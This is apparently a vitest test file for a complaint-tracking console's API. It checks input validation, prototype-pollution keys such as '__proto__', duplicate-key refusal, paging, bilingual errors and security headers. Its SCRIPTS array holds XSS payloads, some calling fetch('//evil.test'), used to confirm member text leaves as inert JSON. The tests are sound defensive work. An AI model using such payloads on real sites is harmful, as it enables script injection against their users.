import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { caseDetail, caseSummary, group, health, overview } from "#src/console/contract/care.js";
import { page, problem } from "#src/console/contract/common.js";
import { CONTENT_POLICY } from "#src/http/security-headers.js";
import { countingSimulator, type TestEdge, testEdge } from "../support/edge.js";

const calls: string[] = [];
let edge: TestEdge;
let cookie: string;
beforeAll(async () => {
  edge = await testEdge({ mode: "demo", simulator: countingSimulator(calls) });
  cookie = await edge.signIn();
});
afterAll(() => edge.close());

interface Operation {
  readonly method: string;
  readonly path: string;
  readonly body: Readonly<Record<string, unknown>>;
}

const operation = z.object({
  requestBody: z
    .object({ content: z.object({ "application/json": z.object({ schema: z.json() }) }) })
    .optional(),
});
const openApi = z.object({ paths: z.record(z.string(), z.record(z.string(), operation)) });

/** Every writing route with a body, out of the OpenAPI file, with a body that its schema takes. */
async function writes(): Promise<readonly Operation[]> {
  const file = openApi.parse(await (await edge.app.request("/api/openapi.json")).json());
  return Object.entries(file.paths).flatMap(([path, methods]) =>
    Object.entries(methods).flatMap(([method, { requestBody }]) => {
      if (requestBody === undefined) return [];
      const body = exampleOf(requestBody.content["application/json"].schema);
      return [{ method: method.toUpperCase(), path: path.replaceAll(/\{\w+\}/g, "x1"), body }];
    }),
  );
}

const shape = z.looseObject({
  type: z.string().optional(),
  const: z.json().optional(),
  enum: z.array(z.json()).optional(),
  anyOf: z.array(z.json()).optional(),
  properties: z.record(z.string(), z.json()).optional(),
  required: z.array(z.string()).optional(),
  minLength: z.number().optional(),
  minimum: z.number().optional(),
  items: z.json().optional(),
  minItems: z.number().optional(),
});

function valueOf(schema: unknown): unknown {
  const known = shape.parse(schema);
  if (known.const !== undefined) return known.const;
  if (known.enum !== undefined) return known.enum[0];
  if (known.anyOf !== undefined) return valueOf(known.anyOf[0]);
  if (known.type === "string") return "x".repeat(Math.max(1, known.minLength ?? 1));
  if (known.type === "object") return exampleOf(schema);
  if (known.type === "boolean") return true;
  if (known.type === "array")
    return Array.from({ length: known.minItems ?? 0 }, () => valueOf(known.items));
  return known.minimum ?? 1;
}

function exampleOf(schema: unknown): Readonly<Record<string, unknown>> {
  const { properties = {}, required = [] } = shape.parse(schema);
  return Object.fromEntries(required.map((name) => [name, valueOf(properties[name])]));
}

function send(at: Operation, text: string): Promise<Response> {
  return Promise.resolve(
    edge.app.request(at.path, {
      method: at.method,
      headers: { host: "localhost", cookie, "content-type": "application/json" },
      body: text,
    }),
  );
}

describe("fields that a route does not know", () => {
  it("are refused by every writing route with the field's name, and nothing is done", async () => {
    const routes = await writes();
    expect(routes.length).toBeGreaterThanOrEqual(13);
    calls.length = 0;
    for (const route of routes) {
      const good = JSON.stringify(route.body).slice(1, -1);
      const before = good === "" ? "" : `${good},`;
      for (const field of ["role", "ownerId", "groupId", "constructor", "__proto__", "prototype"]) {
        const answer = await send(route, `{${before}"${field}":"x"}`);
        const said = problem.parse(await answer.json());
        expect([route.path, field, said.status, said.field]).toEqual([
          route.path,
          field,
          400,
          field,
        ]);
        expect(said.expected).not.toBe("");
      }
    }
    expect(calls).toEqual([]);
    expect((await edge.ask(cookie, "/api/v1/access/me")).status).toBe(200);
  });

  it("are refused when a key is there twice, also written in another way, wherever it is", async () => {
    const say = { method: "POST", path: "/api/v1/simulator/lines", body: {} };
    calls.length = 0;
    for (const [text, field] of [
      ['{"room":"r","memberId":"m","text":"a","text":"b"}', "text"],
      ['{"room":"r","memberId":"m","text":"a","te\\u0078t":"b"}', "text"],
      ['{"room":"r","memberId":"m","text":{"a":1,"a":2}}', "a"],
      ['{"room":"r","memberId":"m","text":"a","\\u005f_proto__":{"x":1}}', "__proto__"],
    ]) {
      const answer = await send(say, text ?? "");
      expect([answer.status, problem.parse(await answer.json()).field]).toEqual([400, field]);
    }
    expect(calls).toEqual([]);
    const words = '{"room":"r","memberId":"m","text":"{\\"text\\":1,\\"text\\":2,"}';
    expect((await send(say, words)).status).toBe(200);
  });

  it("are refused in the query as well", async () => {
    const answer = await edge.ask(cookie, "/api/v1/cases?state=open&owner=me");
    expect([answer.status, problem.parse(await answer.json()).field]).toEqual([400, "owner"]);
    expect((await edge.ask(cookie, "/api/v1/cases?state=open&lang=zh")).status).toBe(200);
  });
});

describe("values that do not fit", () => {
  it.each([
    ["/api/v1/cases?limit=0", "limit"],
    ["/api/v1/cases?limit=101", "limit"],
    ["/api/v1/cases?limit=ten", "limit"],
    ["/api/v1/cases?state=lost", "state"],
    ["/api/v1/cases?before=abc", "before"],
    ["/api/v1/groups/x1/overview?from=2026-11-01", "to"],
    ["/api/v1/groups/x1/overview?from=1.11.2026&to=2026-11-02", "from"],
  ])("%s names %s, in the reader's language", async (path, field) => {
    const english = problem.parse(await (await edge.ask(cookie, path)).json());
    expect([english.status, english.field]).toEqual([400, field]);
    const headers = { "accept-language": "zh-CN,zh;q=0.9,en;q=0.8" };
    const chinese = problem.parse(await (await edge.ask(cookie, path, { headers })).json());
    expect(chinese.title).toMatch(/\p{Script=Han}/u);
    expect(chinese.expected).not.toBe("");
  });

  it("are known by a code that does not change with the language", async () => {
    for (const lang of ["zh", "en"]) {
      const answer = await edge.ask(cookie, `/api/v1/cases/none?lang=${lang}`);
      const said = problem.parse(await answer.json());
      expect([said.status, said.type]).toEqual([404, "urn:huiyin:problem:not-found"]);
    }
  });

  it("of the days of a group are explained in both languages", async () => {
    await edge.chat.says("早点铺群", "阿姨", "今天的豆浆是酸的，少了两个包子");
    const [first] = z.array(group).parse(await (await edge.ask(cookie, "/api/v1/groups")).json());
    const path = `/api/v1/groups/${encodeURIComponent(first?.id ?? "")}/overview?from=2026-11-20&to=2026-11-01`;
    for (const [lang, word] of [
      ["zh", "晚于"],
      ["en", "after its end"],
    ]) {
      const answer = await edge.ask(cookie, `${path}&lang=${lang ?? ""}`);
      const said = problem.parse(await answer.json());
      expect([said.status, said.detail]).toEqual([400, expect.stringContaining(word ?? "")]);
    }
  });
});

describe("answers", () => {
  it("fit the contract", async () => {
    await edge.chat.says("水果群", "小李", "这批草莓全烂了，我要退款");
    const read = async (path: string): Promise<unknown> =>
      (await edge.ask(cookie, `/api/v1${path}`)).json();
    const groups = z.array(group).parse(await read("/groups"));
    const fruit = groups.find((one) => one.name === "水果群");
    expect(fruit).toMatchObject({ language: "zh", openCases: 1 });
    const cases = page(caseSummary).parse(await read(`/cases?groupId=${fruit?.id ?? ""}`));
    expect(cases.items[0]).toMatchObject({
      state: "candidate",
      excerpt: "这批草莓全烂了，我要退款",
    });
    expect(
      caseDetail.parse(await read(`/cases/${cases.items[0]?.id ?? ""}`)).version,
    ).toBeGreaterThan(0);
    const days = "from=2026-11-14&to=2026-11-20";
    const figures = overview.parse(await read(`/groups/${fruit?.id ?? ""}/overview?${days}`));
    expect(figures.trend.current.map((point) => point.day)).toHaveLength(7);
    expect(figures.trend.previous[0]?.day).toBe("2026-11-07");
    expect(figures.aspects[0]).toMatchObject({ count: 1, before: 0 });
    health.parse(await read("/health"));
  });

  it("point at the words that weighed, where they stand in the message", async () => {
    await edge.chat.says("蔬菜群", "小赵", "这批草莓全烂了，我要退款");
    const list = page(caseSummary).parse(await (await edge.ask(cookie, "/api/v1/cases")).json());
    const answer = await edge.ask(cookie, `/api/v1/cases/${list.items[0]?.id ?? ""}`);
    const [message] = caseDetail.parse(await answer.json()).messages;
    expect(message?.evidence.length).toBeGreaterThan(0);
    for (const { text, start, end } of message?.evidence ?? []) {
      expect(message?.text?.slice(start, end)).toBe(text);
    }
  });

  it("come page by page without a case twice or left out", async () => {
    for (const who of ["甲", "乙", "丙", "丁", "戊"]) {
      await edge.chat.says(`${who}群`, who, "送来的牛奶过期了，太差劲了");
    }
    const all = page(caseSummary).parse(
      await (await edge.ask(cookie, "/api/v1/cases?limit=100&state=all")).json(),
    );
    expect(all.next).toBeNull();
    const seen: number[] = [];
    let next: string | null = "";
    while (next !== null) {
      const before: string = next === "" ? "" : `&before=${next}`;
      const answer = await edge.ask(cookie, `/api/v1/cases?state=all&limit=2${before}`);
      const part = page(caseSummary).parse(await answer.json());
      seen.push(...part.items.map((one) => one.number));
      next = part.next;
    }
    expect(seen).toEqual(all.items.map((one) => one.number));
    expect(seen.length).toBeGreaterThanOrEqual(5);
  });
});

const SCRIPTS = [
  "<script>fetch('//evil.test')</script>",
  "<img src=x onerror=fetch('//evil.test')>",
  "<svg/onload=fetch('//evil.test')>",
  "\"><iframe srcdoc='<script>1</script>'>",
  "javascript:fetch('//evil.test')",
  "]]><script>1</script>",
  "\u2028</script><script>1</script>",
  "{{constructor.constructor('1')()}}",
];

describe("words of members", () => {
  it("leave as JSON that no browser takes for a page, whatever they are", async () => {
    for (const [index, words] of SCRIPTS.entries()) {
      const who = `${words}${String(index)}`;
      await edge.chat.says(words, who, `${words} 这批草莓全烂了，我要退款`);
    }
    for (const path of ["/groups", "/cases?state=all&limit=100"]) {
      const answer = await edge.ask(cookie, `/api/v1${path}`);
      expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
      expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
      expect(await answer.text()).toContain("onerror=fetch");
    }
  });

  it("do not come back in the words of an error", async () => {
    const answer = await edge.ask(cookie, `/api/v1/cases/${encodeURIComponent(SCRIPTS[0] ?? "")}`);
    expect([answer.status, await answer.text()]).toEqual([
      404,
      expect.not.stringContaining("evil"),
    ]);
  });
});

describe("every answer", () => {
  it("carries the policy that lets only our own scripts run, in no frame", async () => {
    for (const path of [
      "/",
      "/cases",
      "/api/v1/door",
      "/api/v1/none",
      "/healthz",
      "/assets/none.js",
    ]) {
      const answer = await edge.app.request(path);
      expect(answer.headers.get("content-security-policy")).toBe(CONTENT_POLICY);
      expect(answer.headers.get("referrer-policy")).toBe("no-referrer");
      expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    }
    expect(CONTENT_POLICY).toMatch(/script-src 'self';/);
    expect(CONTENT_POLICY).toMatch(/frame-ancestors 'none'/);
    expect(CONTENT_POLICY).not.toMatch(/script-src[^;]*unsafe/);
  });
});
